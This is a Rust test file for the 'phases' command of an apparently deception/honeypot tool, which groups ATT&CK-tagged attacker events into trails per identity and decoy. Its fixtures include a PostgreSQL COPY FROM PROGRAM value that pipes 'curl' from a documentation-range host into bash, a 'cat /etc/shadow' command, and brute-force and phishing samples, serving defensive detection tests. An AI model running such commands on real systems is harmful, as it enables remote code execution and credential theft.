// SPDX-License-Identifier: AGPL-3.0-or-later
//! `phases`.

use super::run::{assert_inert, assert_printed, run_with};

fn tag(who: (&str, &str), decky: &str, tactic: &str, ts: &str) -> String {
    let text = |text: &str| if text.is_empty() { "null".to_owned() } else { format!("\"{text}\"") };
    format!(
        r#"{{"uuid":"u","attacker_uuid":{},"identity_uuid":{},"decky_id":{},"tactic":"{tactic}","technique_id":"T1","ts":{}}}"#,
        text(who.1),
        text(who.0),
        text(decky),
        text(ts)
    ) + "\n"
}

/// Tags of two actors on three decoys, and lines that are on no trail.
fn tags() -> String {
    let (known, unknown) = (("identity-1", "attacker-1"), ("", "attacker-2"));
    [
        tag(known, "web-01", "TA0006", "2026-11-24T09:00:00Z"),
        tag(("identity-1", "attacker-9"), "web-01", "TA0002", "2026-11-24T09:30:00+01:00"),
        tag(known, "web-01", "TA0043", ""),
        tag(known, "web-01", "TA0002", "2026-11-24 08:45:00"),
        tag(known, "db-01", "TA0040", "2026-11-25T00:00:00Z"),
        tag(known, "db-01", "TA0102", "2026-11-25T00:00:00Z"),
        tag(unknown, "", "TA0007", "soon"),
        tag(unknown, "web-01", "TA9999", "2026-11-25T00:00:00Z"),
        tag(("", ""), "web-01", "TA0007", "2026-11-25T00:00:00Z"),
        // An empty name is as none.
        r#"{"tactic":"TA0009","identity_uuid":"","attacker_uuid":"attacker-2","decky_id":""}"#.to_owned()
            + "\n",
        r#"{"tactic":"TA0009","identity_uuid":"","attacker_uuid":"","decky_id":"web-01"}"#.to_owned() + "\n",
        tag(unknown, &"d".repeat(257), "TA0007", "2026-11-25T00:00:00Z"),
        "\n{\n".to_owned(),
        r#"{"tactic": 7}"#.to_owned(),
    ]
    .concat()
}

#[test]
fn first_and_last_phases_are_shown_for_each_actor_and_decoy() {
    let table = run_with(&tags(), &["phases"]);
    let json = run_with(&tags(), &["phases", "--json"]);
    assert_eq!((table.code, json.code), (0, 0));
    assert_inert(&table);
    assert_eq!(table.stderr, json.stderr);
    assert_printed("phases", &format!("{}\n{}\n{}", table.stdout, json.stdout, table.stderr));
}

#[test]
fn the_order_of_tags_does_not_matter() {
    let text = tags();
    let mut lines: Vec<&str> = text.lines().collect();
    lines.reverse();
    let reversed = run_with(&lines.join("\n"), &["phases", "--json"]);
    assert_eq!(reversed.stdout, run_with(&text, &["phases", "--json"]).stdout);
}

#[test]
fn what_the_main_command_prints_is_read() {
    let tags = super::run::run(&["tag", "samples/cowrie.json"]).stdout;
    let ran = run_with(&tags, &["phases", "--json"]);
    let rows: Vec<serde_json::Value> = serde_json::from_str(&ran.stdout).unwrap();
    assert!(rows.len() > 3 && rows.iter().all(|row| row["first"]["at"].is_string()), "{}", ran.stdout);
    let counted: u64 = rows
        .iter()
        .flat_map(|row| row["phases"].as_array().unwrap())
        .map(|phase| phase["tags"].as_u64().unwrap())
        .sum();
    assert_eq!(counted, tags.lines().count() as u64);
}

#[test]
fn no_tags_are_no_error_and_unreadable_input_is() {
    let none = run_with("", &["phases"]);
    assert_eq!((none.code, none.stdout.as_str(), none.stderr.as_str()), (0, "", "0 tags on 0 trails\n"));
    assert_eq!(run_with("", &["phases", "--json"]).stdout, "[]\n");
    assert_eq!(run_with("x\ny\n", &["phases"]).code, 2);
    assert_eq!(run_with("", &["phases", "absent.ndjson"]).code, 2);
    assert_eq!(run_with("", &["phases", "src"]).code, 2);
}

/// One identity with two attackers and one attacker whom nobody knows, on three decoys, by events of seven
/// kinds; the tags are those of the shipped rules.
#[test]
fn events_of_several_kinds_make_one_trail_for_each_identity_and_decoy() {
    use serde_json::{Value, json};

    let event = |who: (&str, &str), decoy: &str, kind: &str, minute: u32, payload: Value| {
        let event = json!({
            "source_kind": kind, "source_id": format!("{kind}#{minute}"), "identity_uuid": who.0,
            "attacker_uuid": who.1, "decky_id": decoy, "ts": format!("2026-05-02T06:{minute:02}:00Z"),
            "payload": payload,
        });
        format!("{event}\n")
    };
    let (first, second, unknown) = (("id-1", "a-1"), ("id-1", "a-2"), ("", "a-3"));
    let scan = json!({"src_ip": "203.0.113.7", "dst_ip": "192.0.2.10", "dst_port": 22, "service": "ssh"});
    let word_list = json!({"username": "root", "service": "ssh", "result": "fail", "fail_count": 17});
    let guessed = json!({"username": "root", "service": "ssh", "result": "success", "prior_brute": true});
    let copy = json!({"service": "postgresql", "op": "COPY",
        "op_text": "COPY x FROM PROGRAM 'curl -s http://203.0.113.99/pg.sh | bash'"});
    let read = json!({"service": "mysql", "rows_read": 250_000, "bytes_read": 73_400_320});
    let note =
        json!({"subject": "Urgent: payment", "body_text": "a wire transfer today, keep this confidential"});
    let spraying = json!({"identity_uuid": "id-1", "shared_password_hash": "8d96", "account_count": 7});
    let events = [
        event(first, "web-01", "scan", 1, scan.clone()),
        event(first, "web-01", "auth_attempt", 2, word_list.clone()),
        event(second, "web-01", "auth_attempt", 3, guessed),
        event(second, "web-01", "command", 4, json!({"command_text": "cat /etc/shadow"})),
        event(first, "db-01", "service_op", 5, copy),
        event(second, "db-01", "session", 6, read),
        event(unknown, "web-01", "scan", 7, scan),
        event(unknown, "mx-01", "email", 8, note),
        event(("id-1", ""), "", "identity", 9, spraying),
        event(("", ""), "web-01", "auth_attempt", 10, word_list),
    ];
    let tags = run_with(&events.concat(), &["tag", "--summary", "none"]).stdout;
    let ran = run_with(&tags, &["phases", "--json"]);
    let rows: Vec<Value> = serde_json::from_str(&ran.stdout).unwrap();
    let said = |row: &Value| {
        let step = |step: &str| {
            format!("{} {}", row[step]["at"].as_str().unwrap(), row[step]["phase"].as_str().unwrap())
        };
        let name = |key: &str| row[key].as_str().unwrap_or("-").to_owned();
        let phases = row["phases"].as_array().unwrap().iter().map(|phase| phase["phase"].as_str().unwrap());
        let phases = phases.collect::<Vec<_>>().join(" ");
        let who = format!("{} {} {}", name("identity_uuid"), name("attacker_uuid"), name("decky_id"));
        format!("{who} | {} | {} | {phases}", step("first"), step("last"))
    };
    let rows: Vec<String> = rows.iter().map(said).collect();
    let day = "2026-05-02T06";
    let expected = [
        format!(
            "id-1 - - | {day}:09:00Z credential_access | {day}:09:00Z credential_access | credential_access"
        ),
        format!(
            "id-1 - db-01 | {day}:05:00Z delivery | {day}:06:00Z collection | delivery execution collection"
        ),
        format!(
            "id-1 - web-01 | {day}:01:00Z reconnaissance | {day}:04:00Z credential_access | reconnaissance delivery credential_access"
        ),
        format!("- a-3 mx-01 | {day}:08:00Z delivery | {day}:08:00Z delivery | delivery"),
        format!("- a-3 web-01 | {day}:07:00Z reconnaissance | {day}:07:00Z reconnaissance | reconnaissance"),
    ];
    assert_eq!(rows, expected, "{tags}");
    assert!(ran.stderr.contains("with neither identity nor attacker"), "{}", ran.stderr);
}
